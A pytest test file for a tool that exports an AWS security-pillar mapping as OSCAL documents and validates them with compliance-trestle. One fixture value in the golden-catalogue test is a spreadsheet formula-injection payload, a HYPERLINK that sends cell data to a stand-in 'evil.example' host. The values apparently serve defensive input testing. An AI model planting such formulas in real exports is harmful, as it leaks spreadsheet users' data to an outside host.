"""OSCAL 1.2.1 catalog and component-definition: compliance-trestle parses both; every mapping appears once."""

from __future__ import annotations

import json
import uuid
from collections import Counter
from pathlib import Path

import pytest

import conformap
from conformap.cli import main
from conformap.outputs import oscal

EXPECTED = Path(__file__).resolve().parent / "expected" / "oscal"
trestle_catalog = pytest.importorskip("trestle.oscal.catalog")
trestle_component = pytest.importorskip("trestle.oscal.component")


@pytest.fixture(scope="module")
def mini(fixtures_dir):
    return conformap.load(fixtures_dir / "mini")


def _statement_triples(cd: dict) -> list[tuple[str, str, str]]:
    """(control-id, statement-id, Rule_Id) of every per-statement Rule_Id prop: one per mapping."""
    comp = cd["component-definition"]["components"][0]
    return [
        (ir["control-id"], st["statement-id"], p["value"])
        for ci in comp["control-implementations"]
        for ir in ci["implemented-requirements"]
        for st in ir.get("statements", [])
        for p in st["props"]
        if p["name"] == "Rule_Id"
    ]


@pytest.mark.parametrize("which", ["real", "mini", "hostile"])
def test_trestle_reads_both_documents(which, real_catalog, fixtures_dir, tmp_path):
    cat = real_catalog if which == "real" else conformap.load(fixtures_dir / which)
    (tmp_path / "catalog.json").write_bytes(oscal.catalog_json(cat))
    (tmp_path / "component-definition.json").write_bytes(oscal.component_definition_json(cat))
    c = trestle_catalog.Catalog.oscal_read(tmp_path / "catalog.json")
    cd = trestle_component.ComponentDefinition.oscal_read(tmp_path / "component-definition.json")
    assert c.metadata.oscal_version.root.root == oscal.OSCAL_VERSION == cd.metadata.oscal_version.root.root
    assert [ctl.id for ctl in c.controls] == [x.id.lower() for x in cat.controls]
    assert cd.components[0].title == "AWS Config managed rules"


def test_every_mapping_appears_exactly_once(real_catalog):
    cd = oscal.component_definition_data(real_catalog)
    triples = _statement_triples(cd)
    expected = [
        (m.control_id.lower(), oscal.part_id(real_catalog.statement(m.statement_id)), m.rule_id) for m in real_catalog.mappings
    ]
    assert len(expected) == 181
    assert Counter(triples) == Counter(expected) and max(Counter(triples).values()) == 1


def test_statement_ids_exist_in_the_catalog(real_catalog):
    cat = oscal.catalog_data(real_catalog)
    part_ids = {p["id"] for c in cat["catalog"]["controls"] for s in c["parts"] for p in s.get("parts", [])}
    assert {st for _, st, _ in _statement_triples(oscal.component_definition_data(real_catalog))} <= part_ids
    bp07 = next(p for c in cat["catalog"]["controls"] for s in c["parts"] for p in s.get("parts", []) if p["id"] == "sec-3_smt.bp07")
    assert bp07["links"][0]["href"].startswith("https://docs.aws.amazon.com/")


def test_metadata_is_dated_from_the_catalogue(real_catalog):
    for doc in (oscal.catalog_data(real_catalog)["catalog"], oscal.component_definition_data(real_catalog)["component-definition"]):
        md = doc["metadata"]
        assert md["last-modified"] == f"{real_catalog.framework.released}T00:00:00Z"
        assert md["version"] == real_catalog.framework.version == "0.1.0"
        assert {"name": "source-captured", "value": "2026-11-28", "ns": oscal.CONFORMAP_NS} in md["props"]


def test_prop_values_are_single_line(real_catalog, fixtures_dir):
    def props(node):
        if isinstance(node, dict):
            for k, v in node.items():
                if k == "props":
                    yield from v
                yield from props(v)
        elif isinstance(node, list):
            for v in node:
                yield from props(v)

    for cat in (real_catalog, conformap.load(fixtures_dir / "hostile")):
        for p in props(oscal.component_definition_data(cat)):
            assert "\n" not in p["value"] and p["value"] == p["value"].strip()


def cd_uuid(path: Path) -> str:
    return json.loads(path.read_text("utf-8"))["component-definition"]["uuid"]


def test_a_new_version_is_a_new_document_with_the_same_elements(real_catalog):
    """issue 19: OSCAL gives a revised document a new uuid; the controls, components and requirements keep theirs."""
    import dataclasses

    bumped = dataclasses.replace(real_catalog, framework=dataclasses.replace(real_catalog.framework, version="99.0.0"))
    ns = uuid.uuid5(uuid.NAMESPACE_URL, "https://conformap.dev/oscal")
    for render, kind in ((oscal.catalog_data, "catalog"), (oscal.component_definition_data, "component-definition")):
        old, new = render(real_catalog)[kind], render(bumped)[kind]
        assert old["uuid"] == str(uuid.uuid5(ns, f"aws-wa-security-pillar/{kind}/{real_catalog.framework.version}"))
        assert new["uuid"] == str(uuid.uuid5(ns, f"aws-wa-security-pillar/{kind}/99.0.0"))
        strip = lambda d: json.dumps({k: v for k, v in d.items() if k not in ("uuid", "metadata")}, sort_keys=True)
        assert strip(old) == strip(new)


def test_golden_documents_of_the_mini_catalogue(mini):
    assert oscal.catalog_json(mini) == (EXPECTED / "mini-catalog.json").read_bytes()
    assert oscal.component_definition_json(mini) == (EXPECTED / "mini-component-definition.json").read_bytes()
    # uuids are uuid5 of stable names, computed here independently of the module
    ns = uuid.uuid5(uuid.NAMESPACE_URL, "https://conformap.dev/oscal")
    golden = json.loads((EXPECTED / "mini-catalog.json").read_text("utf-8"))
    assert golden["catalog"]["uuid"] == str(uuid.uuid5(ns, "mini/catalog/unversioned"))  # the mini catalogue has no version
    assert cd_uuid(EXPECTED / "mini-component-definition.json") == str(uuid.uuid5(ns, "mini/component-definition/unversioned"))
    cd = json.loads((EXPECTED / "mini-component-definition.json").read_text("utf-8"))
    ir = cd["component-definition"]["components"][0]["control-implementations"][0]["implemented-requirements"][1]
    assert ir["uuid"] == str(uuid.uuid5(ns, "mini/component-definition/m-2"))
    assert _statement_triples(cd) == [
        ("m-1", "m-1_smt.desc", "alpha-rule"),
        ("m-2", "m-2_smt.bp01", "alpha-rule"),
        ("m-2", "m-2_smt.bp02", "beta-rule"),
        ("m-2", "m-2_smt.bp02", "gamma-check"),
    ]


def test_cli_writes_oscal(fixtures_dir, tmp_path):
    out = tmp_path / "c.json"
    assert main(["export", "--format", "oscal-component-definition", "--catalog", str(fixtures_dir / "mini"), "--out", str(out)]) == 0
    assert out.read_bytes() == (EXPECTED / "mini-component-definition.json").read_bytes()
    assert main(["export", "--format", "oscal-catalog", "--catalog", str(fixtures_dir / "mini"), "--out", str(tmp_path)]) == 1


@pytest.mark.slow  # a trestle workspace and its CLI: a few seconds
def test_trestle_validate_all_passes(real_catalog, tmp_path):
    """`trestle validate -a` (schema plus trestle's registered validators, e.g. duplicate uuids) in a workspace."""
    import subprocess
    import sys

    trestle = [sys.executable, "-c", "import sys; from trestle.cli import run; sys.exit(run())"]
    assert subprocess.run([*trestle, "init"], cwd=tmp_path, capture_output=True).returncode == 0
    for folder, data in (("catalogs", oscal.catalog_json(real_catalog)), ("component-definitions", oscal.component_definition_json(real_catalog))):
        (tmp_path / folder / "wa").mkdir(parents=True)
        (tmp_path / folder / "wa" / f"{folder[:-1]}.json").write_bytes(data)
    result = subprocess.run([*trestle, "validate", "-a"], cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 0 and result.stdout.count("VALID: Model") == 2, result.stdout + result.stderr


# Written by hand from aws-samples/sample-well-architected-skills-and-steering at 4b58ba0
# (skills/aws-well-architected-framework-review/references/manifest.md, MIT-0): best practices per question.
BP_COUNTS = {"sec-1": 8, "sec-2": 6, "sec-3": 9, "sec-4": 4, "sec-5": 4, "sec-6": 5, "sec-7": 4, "sec-8": 4, "sec-9": 3, "sec-10": 8, "sec-11": 8}


def test_every_best_practice_is_a_part_of_its_question(real_catalog):
    """issue 19: all 63 best practices of the pillar, ids and titles; only the three the page prints link to a statement."""
    doc = oscal.catalog_data(real_catalog)["catalog"]
    counts, linked = {}, []
    for c in doc["controls"]:
        part = next(p for p in c["parts"] if p["name"] == "guidance")
        assert part["links"][0]["text"].startswith("aws-samples/sample-well-architected-skills-and-steering at 4b58ba0")
        counts[c["id"]] = len(part["parts"])
        linked += [(i["props"][0]["value"], i["links"][0]["href"]) for i in part["parts"] if "links" in i]
        if c["id"] == "sec-8":
            assert [(i["props"][0]["value"], i["title"]) for i in part["parts"]][1] == ("SEC08-BP02", "Enforce encryption at rest")
    assert counts == BP_COUNTS and sum(counts.values()) == 63
    assert linked == [("SEC03-BP01", "#sec-3_smt.bp01"), ("SEC03-BP05", "#sec-3_smt.bp05"), ("SEC03-BP07", "#sec-3_smt.bp07")]


# --------------------------------------------------------------------------- every optional field present
# The mini catalogue has no version, release, capture date, notice or question id; the golden one has them all.

TRESTLE = {"ns": oscal.TRESTLE_NS}
OURS = {"ns": oscal.CONFORMAP_NS}


@pytest.fixture(scope="module")
def golden(fixtures_dir):
    return conformap.load(fixtures_dir / "golden")


def test_metadata_with_every_optional_field(golden):
    md = oscal.catalog_data(golden)["catalog"]["metadata"]
    assert md == {
        "title": "Golden Framework",
        "last-modified": "2026-01-31T00:00:00Z",
        "version": "1.2.3",
        "oscal-version": "1.2.1",
        "props": [
            {"name": "source-captured", "value": "2026-01-15", **OURS},
            {"name": "source-sha256", "value": golden.framework.source.sha256, **OURS},
        ],
        "links": [{"href": "https://example.com/page", "rel": "source"}, {"href": "https://example.com/framework", "rel": "reference"}],
        "remarks": "Generated by conformap from catalogue version 1.2.3. Source: Golden page <https://example.com/page>\n\nSample mapping, not a guarantee.",
    }
    assert oscal.component_definition_data(golden)["component-definition"]["metadata"]["title"] == "Golden Framework: AWS Config managed rules"


def test_a_question_with_its_framework_id_and_a_best_practice_with_its_link(golden):
    g1, g2 = oscal.catalog_data(golden)["catalog"]["controls"][:2]
    assert g1["props"] == [{"name": "label", "value": "G-1"}, {"name": "sort-id", "value": "001"}, {"name": "alt-identifier", "value": "G01"}]
    bp01, bp02 = g2["parts"][0]["parts"]
    assert bp01 == {
        "id": "g-2_smt.bp01",
        "name": "item",
        "title": "Practice one",
        "props": [{"name": "label", "value": "G-2.BP01"}, {"name": "alt-identifier", "value": "G02-BP01"}],
        "links": [{"href": "https://example.com/bp1", "rel": "reference"}],
        "prose": 'Practice one, "quoted".',
    }
    assert bp02 == {"id": "g-2_smt.bp02", "name": "item", "props": [{"name": "label", "value": "G-2.BP02"}], "prose": "Practice two"}


def test_the_rule_set_props_of_a_rule_with_and_without_description_and_identifier(golden):
    comp = oscal.component_definition_data(golden)["component-definition"]["components"][0]
    assert comp["description"] == "AWS Config managed rules that AWS's page maps to the questions of Golden Framework."
    assert comp["props"] == [
        {"name": "Rule_Id", "value": "alpha-check", **TRESTLE, "remarks": "rule_set_000"},
        {"name": "Rule_Description", "value": 'Checks "alpha", with a comma.', **TRESTLE, "remarks": "rule_set_000"},
        {"name": "Check_Id", "value": "ALPHA_CHECK", **TRESTLE, "remarks": "rule_set_000"},
        {"name": "Check_Description", "value": "AWS Config managed rule ALPHA_CHECK", **TRESTLE, "remarks": "rule_set_000"},
        {"name": "Rule_Id", "value": "beta-check", **TRESTLE, "remarks": "rule_set_001"},
        {"name": "Rule_Description", "value": '=HYPERLINK("https://evil.example/?q="&A1,"Click")', **TRESTLE, "remarks": "rule_set_001"},
        {"name": "Check_Id", "value": "BETA_CHECK", **TRESTLE, "remarks": "rule_set_001"},
        {"name": "Check_Description", "value": "AWS Config managed rule BETA_CHECK", **TRESTLE, "remarks": "rule_set_001"},
        {"name": "Rule_Id", "value": "gamma-check", **TRESTLE, "remarks": "rule_set_002"},
        {"name": "Rule_Description", "value": "+1 -2 @three", **TRESTLE, "remarks": "rule_set_002"},
    ]
    ci = comp["control-implementations"][0]
    assert ci["source"] == "catalog.json" and ci["description"] == "The mapping of Golden Framework questions to AWS Config rules, from Golden page."
    g1 = ci["implemented-requirements"][0]
    assert g1["description"] == "2 AWS Config rule(s) support G-1 (How do you do the first thing?)"
    assert g1["props"] == [{"name": "Rule_Id", "value": "alpha-check", **TRESTLE}, {"name": "Rule_Id", "value": "gamma-check", **TRESTLE}]
    assert g1["statements"][0]["description"] == "AWS Config rules the source maps to G-1.desc: alpha-check, gamma-check."
    assert [p["remarks"] for p in g1["statements"][0]["props"]] == ["source rows: 1", "contributed mapping (no source row)"]
    assert oscal.component_definition_data(golden, catalog_href="x/c.json")["component-definition"]["components"][0]["control-implementations"][0]["source"] == "x/c.json"


def test_a_question_with_a_page_links_to_it(golden):
    import dataclasses

    g1 = dataclasses.replace(golden.controls[0], url="https://example.com/g1")
    cat = dataclasses.replace(golden, controls=(g1, *golden.controls[1:]))
    first, second = oscal.catalog_data(cat)["catalog"]["controls"][:2]
    assert first["links"] == [{"href": "https://example.com/g1", "rel": "reference"}] and "links" not in second


def test_a_statement_without_rules_is_skipped_and_those_after_it_are_kept(golden):
    import dataclasses

    alpha = golden.rule("alpha-check")
    alpha = dataclasses.replace(alpha, mappings=tuple(m for m in alpha.mappings if m.statement_id != "G-2.BP01"))
    cat = dataclasses.replace(golden, rules=tuple(alpha if r.id == "alpha-check" else r for r in golden.rules))
    comp = oscal.component_definition_data(cat)["component-definition"]["components"][0]
    g2 = next(ir for ir in comp["control-implementations"][0]["implemented-requirements"] if ir["control-id"] == "g-2")
    assert [s["statement-id"] for s in g2["statements"]] == ["g-2_smt.bp02"]


def test_a_framework_without_a_page_links_only_to_the_source(golden):
    import dataclasses

    cat = dataclasses.replace(golden, framework=dataclasses.replace(golden.framework, url=None))
    assert oscal.catalog_data(cat)["catalog"]["metadata"]["links"] == [{"href": "https://example.com/page", "rel": "source"}]
